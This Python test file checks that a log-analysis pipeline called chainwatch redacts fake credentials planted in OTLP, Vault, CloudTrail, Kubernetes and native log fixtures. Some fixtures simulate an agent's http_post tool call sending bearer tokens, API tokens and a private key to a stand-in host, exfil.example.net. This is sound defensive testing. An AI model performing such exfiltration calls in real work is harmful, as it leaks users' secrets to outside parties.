"""Secrets planted in every input format never come out anywhere.

A landing folder is written by hand with secrets where real logs carry them (OTLP tool-call
arguments, attributes and error messages; raw Vault tokens and request data; CloudTrail STS
credentials and secret parameters; Kubernetes issued and reviewed tokens; native arguments,
destinations, errors, credential references, CSV and Parquet rows, a malformed line). The real
Dagster job runs over it, then `chainwatch report`, `investigate --top`, `findings` (table, JSON,
OCSF) and `show`. Every output is scanned for every raw secret: both DuckDB files (bytes, and
every column of every table, read back), the findings Parquet files (bytes and rows), the OCSF
lines, the report, the executed notebook and its HTML, and everything printed or logged.

Each secret carries a unique marker (``PLANTEDnn``), so a partial leak (a cut or re-encoded
secret) is caught too.
"""

from __future__ import annotations

import csv
import json
import logging
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from chainwatch.cli import EXIT_OK, main
from pipelines.run import run_landing
from tests.conftest import write_json, write_lines


def _aws_secret(marker: str) -> str:
    """A 40-character AWS secret access key carrying the marker."""
    value = ("wJalrXUtnFEMI/K7MDENG/" + marker + "bPxRfiCYEXAMPLEKEYABCDEFG")[:40]
    assert len(value) == 40
    return value


def _jwt(marker: str) -> str:
    return (
        "eyJhbGciOiJSUzI1NiIsImtpZCI6InBsYW50ZWQifQ"
        ".eyJzdWIiOiJzeXN0ZW06c2VydmljZWFjY291bnQ6YWdlbnRzOmJvdCJ9."
        + marker
        + "c2lnbmF0dXJlLXNlY3JldA"
    )


def _ghp(marker: str) -> str:
    return "ghp_" + (marker + "A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8")[:36]


S = {
    # CloudTrail
    "sts_secret": _aws_secret("PLANTED01"),
    "sts_session_token": "IQoJb3JpZ2luX2VjPLANTED02/qJ9L3IzzAdnjdmQ8mk3X0+xn6OoTkkovmh6U7ufORqYQ==",
    "sts_key_id": "ASIAPLANTED03ABCDEFG",
    "caller_key_id": "AKIAPLANTED04ABCDEFG",
    "created_key_secret": _aws_secret("PLANTED05"),
    "created_key_id": "AKIAPLANTED29ABCDEFG",
    "param_secret_key": _aws_secret("PLANTED06"),
    "pasted_secret": _aws_secret("PLANTED07"),
    "pasted_key_id": "AKIAPLANTED08ABCDEFG",
    "param_session_token": "FwoGZXIvYXdzPLANTED09EBAaDHk3bE9vT1NFQ1JFVFNFU1NJT05UT0tFTg==",
    "secret_string_password": "PLANTED30-correct-horse",
    "secret_value_response": "PLANTED31-db-password",
    "ct_error_token": "FwoGZXIvYXdzPLANTED52EBAaDHk3bE9vT1NFQ1JFVA",
    # OTLP
    "otlp_api_key": "sk-PLANTED11-0123456789abcdef",
    "otlp_password": "PLANTED12-hunter2",
    "otlp_bearer": "PLANTED13.abcDEF123.ghiJKL456",
    "otlp_github": _ghp("PLANTED14"),
    "otlp_slack": "xoxb-PLANTED15-123456789012-AbCdEfGhIjKlMnOpQrStUvWx",
    "otlp_pem_body": "MIIEowIBAAKCAQEAPLANTED16secretkeymaterial",
    "otlp_error_api_key": "PLANTED17apikeyinurl",
    "otlp_header_bearer": "PLANTED18.headerToken.value",
    "otlp_url_token": "PLANTED19urltoken",
    # Vault
    "vault_secret_id": "PLANTED20-approle-secret-id",
    "vault_login_token": "hvs.CAESIPLANTED21abcdefghijklmnopqrstuv",
    "vault_accessor": "PLANTED22accessorAbCdEfGhIjKl",
    "vault_kv_api_key": "PLANTED23-kv-api-key",
    "vault_other_token": "hvs.CAESIPLANTED24abcdefghijklmnopqrstuv",
    "vault_data_password": "PLANTED25-vault-password",
    "vault_data_api_key": "PLANTED26-vault-api-key",
    "vault_path_token": "hvs.CAESIPLANTED27abcdefghijklmnopqrstuv",
    "vault_error_token": "hvs.CAESIPLANTED51abcdefghijklmnopqrstuv",
    # Kubernetes
    "k8s_issued_jwt": _jwt("PLANTED32"),
    "k8s_reviewed_jwt": _jwt("PLANTED35"),
    "k8s_status_jwt": _jwt("PLANTED36"),
    # native
    "native_credential_ref": _ghp("PLANTED37"),
    "native_parent_ref": "xoxb-PLANTED38-123456789012-AbCdEfGhIjKlMnOpQrStUvWx",
    "native_password": "PLANTED39-native-password",
    "native_api_key": "PLANTED40-native-api-key",
    "native_url_token": "PLANTED41urltoken",
    "native_bearer": "PLANTED42.bearer.token",
    "native_pem_body": "MIIEowIBAAKCAQEAPLANTED43secretkeymaterial",
    "native_github": _ghp("PLANTED44"),
    "native_slack": "xoxb-PLANTED45-123456789012-AbCdEfGhIjKlMnOpQrStUvWx",
    "native_error_bearer": "PLANTED46.error.bearer",
    "malformed_password": "PLANTED47-malformed",
    "malformed_slack": "xoxb-PLANTED48-123456789012-AbCdEfGhIjKlMnOpQrStUvWx",
    "csv_api_key": "PLANTED49-csv-api-key",
    # OTel GenAI captured content: the user's prompt and a tool's result (hashed, never stored)
    "prompt_password": "PLANTED70-prompt-password",
    "result_api_key": "sk-PLANTED71-0123456789abcdef",
    "result_aws_key_id": "AKIAPLANTED72ABCDEFG",
    "result_bearer": "PLANTED73.resultToken.value",
    "parquet_password": "PLANTED50-parquet-password",
}
# What to look for: each secret whole, and its marker (catches a cut or re-encoded secret).
NEEDLES = {
    **{f"{name} (whole)": value for name, value in S.items()},
    **{
        f"{name} (marker)": value[value.index("PLANTED") : value.index("PLANTED") + 9]
        for name, value in S.items()
    },
}
DAY = "2026-11-01"
AGENT = "agent-sec"


def pem(body: str) -> str:
    return f"-----BEGIN RSA PRIVATE KEY-----\n{body}\n-----END RSA PRIVATE KEY-----"


def _attr(key: str, value) -> dict:
    if isinstance(value, list):
        return {
            "key": key,
            "value": {"arrayValue": {"values": [{"stringValue": v} for v in value]}},
        }
    return {"key": key, "value": {"stringValue": value}}


def _span(span_id: str, name: str, start_s: int, attrs: list[dict], status: dict | None = None):
    start_ns = (1793527200 + start_s) * 10**9  # 2026-11-01T10:00:00Z + start_s
    span = {
        "traceId": "5ec7e7c0ffee4a11b0a7d5e1c2f3a4b5",
        "spanId": span_id,
        "name": name,
        "kind": 1,
        "startTimeUnixNano": str(start_ns),
        "endTimeUnixNano": str(start_ns + 2 * 10**9),
        "attributes": attrs,
    }
    if span_id != "a000000000000001":
        span["parentSpanId"] = "a000000000000001"
    if status:
        span["status"] = status
    return span


def otlp_records() -> list[dict]:
    common = [_attr("gen_ai.agent.id", AGENT), _attr("chainwatch.task.id", "task-sec-otlp")]
    spans = [
        _span(
            "a000000000000001",
            "invoke_agent secrets",
            0,
            [
                _attr("gen_ai.operation.name", "invoke_agent"),
                # Content capture: a prompt with a password in it.
                _attr(
                    "gen_ai.input.messages",
                    json.dumps(
                        [
                            {
                                "role": "user",
                                "parts": [
                                    {
                                        "type": "text",
                                        "content": "Export the customers; the DB password is "
                                        + S["prompt_password"],
                                    }
                                ],
                            }
                        ]
                    ),
                ),
                *common,
            ],
        ),
        _span(
            "a000000000000002",
            "execute_tool query_customers",
            10,
            [
                _attr("gen_ai.operation.name", "execute_tool"),
                _attr("gen_ai.tool.name", "query_customers"),
                _attr(
                    "gen_ai.tool.call.arguments",
                    json.dumps(
                        {
                            "query": "select * from customers",
                            "api_key": S["otlp_api_key"],
                            "password": S["otlp_password"],
                        }
                    ),
                ),
                # Content capture: a tool result that echoes credentials.
                _attr(
                    "gen_ai.tool.call.result",
                    "- name: ACME\n  api_key: "
                    + S["result_api_key"]
                    + "\n  note: rotate "
                    + S["result_aws_key_id"]
                    + " and the token Bearer "
                    + S["result_bearer"]
                    + " today",
                ),
                *common,
            ],
        ),
        _span(
            "a000000000000003",
            "execute_tool http_post",
            20,
            [
                _attr("gen_ai.operation.name", "execute_tool"),
                _attr("gen_ai.tool.name", "http_post"),
                _attr(
                    "gen_ai.tool.call.arguments",
                    json.dumps(
                        {
                            "url": "https://exfil.example.net/upload",
                            "headers": {"Authorization": "Bearer " + S["otlp_bearer"]},
                            "body": f"{S['otlp_github']} {S['otlp_slack']}",
                            "key": pem(S["otlp_pem_body"]),
                        }
                    ),
                ),
                _attr("http.request.header.authorization", ["Bearer " + S["otlp_header_bearer"]]),
                _attr("url.full", "https://exfil.example.net/upload?token=" + S["otlp_url_token"]),
                *common,
            ],
            # What an HTTP client's exception says: the URL, query string and all.
            status={
                "code": "STATUS_CODE_ERROR",
                "message": "401 Client Error: Unauthorized for url: "
                "https://api.example.net/v1/charges?api_key=" + S["otlp_error_api_key"],
            },
        ),
    ]
    return [
        {
            "resourceSpans": [
                {
                    "resource": {"attributes": [_attr("service.name", "secrets-agent")]},
                    "scopeSpans": [{"scope": {"name": "test"}, "spans": spans}],
                }
            ]
        }
    ]


def _vault(
    entry_type: str,
    rid: str,
    second: int,
    path: str,
    *,
    auth=None,
    data=None,
    response=None,
    operation="update",
    mount_type="kv",
):
    rec = {
        "time": f"{DAY}T10:01:{second:02d}.000000Z",
        "type": entry_type,
        "auth": auth or {"token_type": "default"},
        "request": {
            "id": rid,
            "operation": operation,
            "mount_type": mount_type,
            "client_token": (auth or {}).get("client_token", ""),
            "path": path,
            "remote_address": "10.0.0.5",
        },
    }
    if data is not None:
        rec["request"]["data"] = data
    if entry_type == "response":
        rec["response"] = response or {}
    return rec


def vault_records() -> list[dict]:
    token_auth = {
        "client_token": S["vault_login_token"],  # raw, not HMAC'd (hmac_accessor off / log_raw)
        "accessor": S["vault_accessor"],
        "display_name": "approle",
        "policies": ["default", "payments"],
        "token_policies": ["default", "payments"],
        "metadata": {"agent_id": AGENT, "task_id": "task-sec-vault"},
        "token_ttl": 3600,
        "token_issue_time": f"{DAY}T10:01:00Z",
    }
    login_data = {"role_id": "role-1", "secret_id": S["vault_secret_id"]}
    return [
        _vault(
            "request", "v-login", 0, "auth/approle/login", data=login_data, mount_type="approle"
        ),
        _vault(
            "response",
            "v-login",
            0,
            "auth/approle/login",
            auth=token_auth,
            data=login_data,
            response={"auth": token_auth},
            mount_type="approle",
        ),
        _vault(
            "response",
            "v-kv-read",
            5,
            "secret/data/payments/stripe",
            auth=token_auth,
            operation="read",
            response={"data": {"data": {"api_key": S["vault_kv_api_key"]}}},
        ),
        _vault(
            "response",
            "v-kv-write",
            10,
            "secret/data/app",
            auth=token_auth,
            data={
                "data": {
                    "password": S["vault_data_password"],
                    "api_key": S["vault_data_api_key"],
                }
            },
        ),
        _vault(
            "response",
            "v-lookup",
            15,
            "auth/token/lookup",
            auth=token_auth,
            data={"token": S["vault_other_token"]},
            mount_type="token",
        ),
        _vault(
            "response",
            "v-lookup-path",
            20,
            "auth/token/lookup/" + S["vault_path_token"],
            auth=token_auth,
            operation="read",
            mount_type="token",
        ),
        _vault(
            "response",
            "v-revoke",
            25,
            "auth/token/revoke",
            auth=token_auth,
            data={"token": S["vault_other_token"]},
            mount_type="token",
        ),
        {
            **_vault(
                "response",
                "v-denied",
                30,
                "auth/token/lookup",
                auth=token_auth,
                data={"token": S["vault_error_token"]},
                mount_type="token",
            ),
            "error": "1 error occurred:\n\t* permission denied for " + S["vault_error_token"],
        },
    ]


def _ct(
    event_id: str,
    second: int,
    source: str,
    name: str,
    *,
    key_id: str,
    params=None,
    response=None,
    **extra,
) -> dict:
    return {
        "eventVersion": "1.09",
        "userIdentity": {
            "type": "IAMUser",
            "principalId": "AIDAEXAMPLE",
            "arn": "arn:aws:iam::111122223333:user/agent-sec",
            "accountId": "111122223333",
            "accessKeyId": key_id,
            "userName": AGENT,
        },
        "eventTime": f"{DAY}T10:02:{second:02d}Z",
        "eventSource": source,
        "eventName": name,
        "awsRegion": "us-east-1",
        "sourceIPAddress": "10.0.0.6",
        "requestParameters": params,
        "responseElements": response,
        "requestID": f"req-{event_id}",
        "eventID": event_id,
        **extra,
    }


def cloudtrail_document() -> dict:
    return {
        "Records": [
            _ct(
                "ct-assume",
                0,
                "sts.amazonaws.com",
                "AssumeRole",
                key_id=S["caller_key_id"],
                params={
                    "roleArn": "arn:aws:iam::111122223333:role/payments",
                    "roleSessionName": f"{AGENT}@task-sec-ct",
                    "durationSeconds": 43200,
                },
                response={
                    "credentials": {
                        "accessKeyId": S["sts_key_id"],
                        "secretAccessKey": S["sts_secret"],
                        "sessionToken": S["sts_session_token"],
                        "expiration": f"{DAY}T22:02:00Z",
                    }
                },
            ),
            _ct(
                "ct-get-secret",
                10,
                "secretsmanager.amazonaws.com",
                "GetSecretValue",
                key_id=S["sts_key_id"],
                params={"secretId": "prod/payments/db"},
                response={"secretString": S["secret_value_response"]},
            ),
            _ct(
                "ct-put-secret",
                20,
                "secretsmanager.amazonaws.com",
                "PutSecretValue",
                key_id=S["sts_key_id"],
                params={
                    "secretId": "prod/payments/db",
                    "secretString": json.dumps({"password": S["secret_string_password"]}),
                    "SecretAccessKey": S["param_secret_key"],
                    "sessionToken": S["param_session_token"],
                    "description": f"rotated {S['pasted_key_id']} {S['pasted_secret']}",
                },
            ),
            _ct(
                "ct-create-key",
                30,
                "iam.amazonaws.com",
                "CreateAccessKey",
                key_id=S["caller_key_id"],
                params={"userName": "deploy-bot"},
                response={
                    "accessKey": {
                        "userName": "deploy-bot",
                        "accessKeyId": S["created_key_id"],
                        "status": "Active",
                        "secretAccessKey": S["created_key_secret"],
                        "createDate": f"{DAY}T10:02:30Z",
                    }
                },
            ),
            # A failed call: with no errorCode, the error message is what is kept.
            _ct(
                "ct-failed",
                40,
                "s3.amazonaws.com",
                "GetObject",
                key_id=S["sts_key_id"],
                params={"bucketName": "payments-exports", "key": "2026/11/01.csv"},
                errorMessage="The request signature we calculated does not match the signature "
                "you provided: X-Amz-Security-Token=" + S["ct_error_token"],
            ),
        ]
    }


def _k8s(
    audit_id: str,
    second: int,
    verb: str,
    ref: dict,
    *,
    code: int = 201,
    request=None,
    response=None,
    status_message=None,
    annotations=None,
    user=None,
) -> dict:
    ev = {
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": audit_id,
        "stage": "ResponseComplete",
        "requestURI": f"/api/v1/namespaces/agents/{ref.get('resource', '')}",
        "verb": verb,
        "user": user
        or {
            "username": "system:serviceaccount:agents:runner",
            "groups": ["system:serviceaccounts"],
        },
        "sourceIPs": ["10.0.0.7"],
        "objectRef": {"namespace": "agents", "apiVersion": "v1", **ref},
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": f"{DAY}T10:03:{second:02d}.000000Z",
        "stageTimestamp": f"{DAY}T10:03:{second:02d}.100000Z",
    }
    if status_message:
        ev["responseStatus"].update(
            {"status": "Failure", "message": status_message, "reason": "Forbidden"}
        )
    if request is not None:
        ev["requestObject"] = request
    if response is not None:
        ev["responseObject"] = response
    if annotations:
        ev["annotations"] = annotations
    return ev


def k8s_records() -> list[dict]:
    return [
        _k8s(
            "k-token",
            0,
            "create",
            {"resource": "serviceaccounts", "subresource": "token", "name": "bot"},
            request={
                "kind": "TokenRequest",
                "apiVersion": "authentication.k8s.io/v1",
                "spec": {
                    "audiences": ["vault"],
                    "expirationSeconds": 86400,
                    "boundObjectRef": {"kind": "Pod", "name": f"{AGENT}-task-sec-k8s"},
                },
            },
            response={
                "kind": "TokenRequest",
                "status": {
                    "token": S["k8s_issued_jwt"],
                    "expirationTimestamp": "2026-11-02T10:03:00Z",
                },
            },
            annotations={"authentication.kubernetes.io/issued-credential-id": "JTI=planted-k8s-1"},
        ),
        _k8s(
            "k-review",
            10,
            "create",
            {"resource": "tokenreviews", "apiGroup": "authentication.k8s.io"},
            request={"kind": "TokenReview", "spec": {"token": S["k8s_reviewed_jwt"]}},
            response={"kind": "TokenReview", "status": {"authenticated": True}},
        ),
        _k8s(
            "k-denied",
            20,
            "get",
            {"resource": "secrets", "name": "payments-db"},
            code=403,
            status_message="forbidden: token " + S["k8s_status_jwt"],
            user={
                "username": "system:serviceaccount:agents:bot",
                "extra": {"authentication.kubernetes.io/credential-id": ["JTI=planted-k8s-1"]},
            },
        ),
    ]


def native_records() -> list:
    task = "task-sec-native"
    return [
        {
            "record_type": "task",
            "event_id": "n-start",
            "ts": f"{DAY}T10:00:00Z",
            "event": "start",
            "task_id": task,
            "agent_id": AGENT,
        },
        {
            "record_type": "credential",
            "event_id": "n-issue",
            "ts": f"{DAY}T10:00:05Z",
            "event": "issue",
            "credential_ref": S["native_credential_ref"],
            "parent_credential_ref": S["native_parent_ref"],
            "credential_kind": "native_jit",
            "agent_id": AGENT,
            "task_id": task,
            "ttl_s": "86400",
            "scopes": ["payments:read", "mail:send"],
        },
        {
            "record_type": "action",
            "event_id": "n-read",
            "ts": f"{DAY}T10:01:00Z",
            "agent_id": AGENT,
            "task_id": task,
            "tool": "query_customer_db",
            "action_class": "read",
            "sensitivity": "high",
            "credential_ref": S["native_credential_ref"],
            "arguments": {
                "sql": "select * from customers",
                "password": S["native_password"],
                "api_key": S["native_api_key"],
            },
        },
        {
            "record_type": "action",
            "event_id": "n-egress",
            "ts": f"{DAY}T10:02:00Z",
            "agent_id": AGENT,
            "task_id": task,
            "tool": "http_post",
            "action_class": "egress",
            "external": "true",
            "credential_ref": S["native_credential_ref"],
            "destination": "https://exfil.example.net/upload?token=" + S["native_url_token"],
            "arguments": {
                "headers": {"Authorization": "Bearer " + S["native_bearer"]},
                "body": pem(S["native_pem_body"]),
                "note": f"{S['native_github']} {S['native_slack']}",
            },
        },
        {
            "record_type": "action",
            "event_id": "n-error",
            "ts": f"{DAY}T10:03:00Z",
            "agent_id": AGENT,
            "task_id": task,
            "tool": "call_partner_api",
            "outcome": "error",
            "error_type": "AuthenticationError: Authorization: Bearer "
            + S["native_error_bearer"]
            + " was rejected",
        },
        {
            "record_type": "task",
            "event_id": "n-end",
            "ts": f"{DAY}T10:05:00Z",
            "event": "end",
            "task_id": task,
            "status": "completed",
        },
        # A truncated line: rejected, and its stored text must be redacted too.
        '{"record_type": "action", "password": "'
        + S["malformed_password"]
        + '", "token": "'
        + S["malformed_slack"]
        + '", ',
    ]


def build_landing(landing: Path) -> Path:
    write_lines(landing / "otlp" / f"traces-{DAY}.jsonl", otlp_records())
    write_lines(landing / "vault" / f"audit-{DAY}.log", vault_records())
    write_json(landing / "cloudtrail" / f"cloudtrail-{DAY}.json", cloudtrail_document())
    write_lines(landing / "k8s" / f"audit-{DAY}.jsonl", k8s_records())
    write_lines(landing / "native" / f"tasks-{DAY}.jsonl", native_records())
    row = {
        "record_type": "action",
        "event_id": "n-csv",
        "ts": f"{DAY}T10:04:00Z",
        "agent_id": AGENT,
        "task_id": "task-sec-native",
        "tool": "update_crm",
        "arguments": json.dumps({"api_key": S["csv_api_key"], "account": "acme"}),
    }
    with (landing / "native" / f"actions-{DAY}.csv").open("w", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=list(row))
        writer.writeheader()
        writer.writerow(row)
    parquet_row = {
        **row,
        "event_id": "n-parquet",
        "ts": f"{DAY}T10:04:30Z",
        "tool": "update_ticket",
        "arguments": json.dumps({"password": S["parquet_password"], "ticket": "T-1"}),
    }
    pq.write_table(
        pa.Table.from_pylist([parquet_row]), landing / "native" / f"actions-{DAY}.parquet"
    )
    return landing


def leaks_in(where: str, data: bytes | str) -> list[str]:
    if isinstance(data, str):
        return [f"{label} in {where}" for label, value in NEEDLES.items() if value in data]
    return [f"{label} in {where}" for label, value in NEEDLES.items() if value.encode() in data]


def database_leaks(db: Path) -> tuple[list[str], int]:
    """Every column of every table read back, as text (BLOBs as bytes); (leaks, columns read)."""
    con = duckdb.connect(str(db), read_only=True)
    leaks, read = [], 0
    try:
        columns = con.execute(
            """SELECT table_name, column_name, data_type FROM information_schema.columns
               WHERE table_catalog = current_database() AND table_schema = 'main'
               ORDER BY table_name, ordinal_position"""
        ).fetchall()
        for table, column, data_type in columns:
            if data_type == "BLOB":
                values = con.execute(f'SELECT "{column}" FROM "{table}"').fetchall()
                blob = b"\n".join(bytes(v) for (v,) in values if v is not None)
                leaks += leaks_in(f"{db.name}:{table}.{column}", blob)
            else:
                values = con.execute(
                    f'SELECT CAST("{column}" AS VARCHAR) FROM "{table}"'
                ).fetchall()
                text = "\n".join(v for (v,) in values if v is not None)
                leaks += leaks_in(f"{db.name}:{table}.{column}", text)
            read += 1
    finally:
        con.close()
    return leaks, read


@pytest.mark.slow
def test_no_planted_secret_reaches_any_output(tmp_path: Path, capfd, caplog):
    caplog.set_level(logging.DEBUG)
    landing = build_landing(tmp_path / "landing")
    out = tmp_path / "out"
    db = out / "warehouse" / "chainwatch.duckdb"
    printed: list[str] = []

    outcome = run_landing(landing, db, refit="auto", log_level="DEBUG")
    assert outcome.success, outcome.failed_checks
    captured = capfd.readouterr()
    printed += [captured.out, captured.err]

    def cli(*argv: str) -> str:
        code = main([*argv, "--db", str(db)])
        captured = capfd.readouterr()
        printed.extend([captured.out, captured.err])
        assert code == EXIT_OK, captured.err
        return captured.out

    report = out / "report.html"
    cli("report", "--out", str(report))
    cli("investigate", "--top", "--out", str(out / "investigations"))
    ocsf_out = cli("findings", "--format", "ocsf")
    json_out = cli("findings", "--format", "json")
    cli("findings")
    for task in (
        "task-sec-native",
        "task-sec-otlp",
        "task-sec-vault",
        "task-sec-ct",
        "task-sec-k8s",
    ):
        cli("show", task)
    cli("recommend", "--format", "json")

    # The run really carried the secrets through every format, and the outputs exist.
    con = duckdb.connect(str(db), read_only=True)
    try:
        formats = dict(
            con.execute("SELECT source_format, sum(loaded) FROM ingest_files GROUP BY 1").fetchall()
        )
        kinds = {
            r[0]
            for r in con.execute(
                "SELECT DISTINCT credential_kind FROM credential_events WHERE event_type = 'issue'"
            ).fetchall()
        }
        redacted_args = con.execute(
            "SELECT count(*) FROM agent_actions WHERE contains(args, '[REDACTED')"
        ).fetchone()[0]
        rejected = con.execute("SELECT count(*) FROM rejected_events").fetchone()[0]
        # The captured prompt and tool result were read (as hashes), not skipped.
        content_origins = {
            r[0]
            for r in con.execute(
                "SELECT DISTINCT origin FROM content_entities WHERE task_id = 'task-sec-otlp'"
            ).fetchall()
        }
    finally:
        con.close()
    assert {"user", "tool", "argument"} <= content_origins
    assert set(formats) == {
        "otlp",
        "vault",
        "cloudtrail",
        "k8s",
        "native",
        "native_csv",
        "native_parquet",
    }
    assert all(n > 0 for n in formats.values()), formats
    assert {"vault_token", "sts_session", "iam_access_key", "k8s_sa_token", "native_jit"} <= kinds
    assert redacted_args >= 6 and rejected == 1
    published = db.with_name("chainwatch_published.duckdb")
    parquet_files = sorted((db.parent / "findings" / "parquet").rglob("*.parquet"))
    ocsf_file = db.parent / "findings" / "findings.ocsf.jsonl"
    notebooks = sorted((out / "investigations").glob("*.ipynb"))
    assert published.is_file() and parquet_files and ocsf_file.stat().st_size > 0
    assert report.is_file() and notebooks and notebooks[0].with_suffix(".html").is_file()
    assert ocsf_out.strip() and json_out.strip()

    leaks: list[str] = []
    # Every file written anywhere under the output folder, as bytes (the DuckDB files, any WAL
    # or spill file, the lock, the exports, the report, the notebook, its HTML and figures).
    files = [p for p in sorted(out.rglob("*")) if p.is_file()]
    assert db in files and published in files and report in files
    for path in files:
        leaks += leaks_in(str(path.relative_to(out)), path.read_bytes())
    # Both databases read back: compressed pages could hide a string from a byte scan.
    for database in (db, published):
        found, read = database_leaks(database)
        assert read > 100
        leaks += found
    # The Parquet exports read back (their pages are compressed too).
    for path in parquet_files:
        rows = pq.read_table(path).to_pylist()
        assert rows
        leaks += leaks_in(f"rows of {path.name}", json.dumps(rows, default=str))
    leaks += leaks_in("findings.ocsf.jsonl", ocsf_file.read_text(encoding="utf-8"))
    leaks += leaks_in(
        "the notebook's HTML", notebooks[0].with_suffix(".html").read_text(encoding="utf-8")
    )
    leaks += leaks_in("report.html", report.read_text(encoding="utf-8"))
    # Everything printed (Dagster's event log at DEBUG, the commands, the kernel) and logged.
    leaks += leaks_in("stdout/stderr", "\n".join(printed))
    leaks += leaks_in("log records", caplog.text)
    assert leaks == [], "\n".join(leaks)
